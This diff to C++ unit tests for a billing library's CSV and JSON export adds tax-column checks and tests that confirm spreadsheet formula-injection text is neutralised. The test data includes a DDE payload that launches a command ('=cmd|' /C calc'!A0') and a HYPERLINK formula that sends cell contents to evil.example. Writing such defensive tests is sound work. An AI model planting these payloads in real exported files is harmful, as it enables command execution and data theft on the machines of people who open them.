@@ -87,10 +87,14 @@ TEST_CASE("csv: BOM, CRLF records, RFC 4180 quoting, Japanese round trip", "[bil
   // Header of the line table, then one row per line with as many fields.
   const auto& header = rows[3];
   CHECK(header.front() == "type");
-  CHECK(header.back() == "rule");
+  // The tax columns come after the rule, so the older columns keep their places.
+  REQUIRE(header.size() >= 3);
+  CHECK(header[header.size() - 3] == "rule");
+  CHECK(header[header.size() - 2] == "tax_class");
+  CHECK(header.back() == "tax_percent");
   CHECK(rows[4].size() == header.size());
   CHECK(rows[4][0] == "machine");
-  CHECK(rows[4].back() == "47m -> 4 x 15m units (rounded up) x 300 = 1200");
+  CHECK(rows[4][header.size() - 3] == "47m -> 4 x 15m units (rounded up) x 300 = 1200");
   CHECK(rows[5][0] == "sale");
   CHECK(rows[5][5] == "アクリル板\n3mm");  // an embedded newline survives inside quotes
   bool total = false, held = false, open = false;
@@ -111,6 +115,8 @@ TEST_CASE("csv: text that would start a formula is neutralised, amounts stay num
   st.plan = "@plan";
   st.lines[1].item = "-acrylic";
   st.note = "+note";
+  st.issuer.name = "=cmd|' /C calc'!A0";
+  st.issuer.address = "@SUM(1+1)";
   const std::string csv = bl::to_csv(st);
   CHECK(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") !=
         std::string::npos);
@@ -119,6 +125,13 @@ TEST_CASE("csv: text that would start a formula is neutralised, amounts stay num
   CHECK(rows[1][3] == "'@plan");
   CHECK(rows[5][5] == "'-acrylic");
   CHECK(rows.back() == std::vector<std::string>{"note", "'+note"});
+  // The issuer comes from the config, still typed by a person: neutralised alike.
+  bool issuer = false;
+  for (std::size_t i = 0; i + 1 < rows.size(); ++i) {
+    if (rows[i][0] != "issuer_name") continue;
+    issuer = rows[i + 1][0] == "'" + st.issuer.name && rows[i + 1][1] == "'@SUM(1+1)";
+  }
+  CHECK(issuer);
   const std::string summary = bl::summary_csv({st});
   const auto srows = parse_csv(std::string_view{summary}.substr(bl::kUtf8Bom.size()));
   REQUIRE(srows.size() == 2);
@@ -148,9 +161,12 @@ TEST_CASE("json: ordered keys, UTF-8 kept, explanations present", "[billing][jso
   const auto j = nlohmann::ordered_json::parse(json);
   std::vector<std::string> keys;
   for (const auto& [k, v] : j.items()) keys.push_back(k);
-  CHECK(keys == std::vector<std::string>{"member_no", "name", "month", "plan", "time_zone",
-                                         "currency", "lines", "subtotals", "total",
-                                         "held_for_review", "open_sessions", "note"});
+  CHECK(keys ==
+        std::vector<std::string>{
+            "member_no",         "name",         "month",           "plan",          "time_zone",
+            "currency",          "lines",        "subtotals",       "lines_total",   "taxes",
+            "tax_total",         "total",        "prices",          "tax_rounding",  "issuer",
+            "qualified_invoice", "invoice_note", "held_for_review", "open_sessions", "note"});
   CHECK(j["name"] == "田中 愛子, \"Aiko\"");
   CHECK(j["lines"][1]["item"] == "アクリル板\n3mm");
   CHECK(j["held_for_review"][0]["session_id"] == 2);
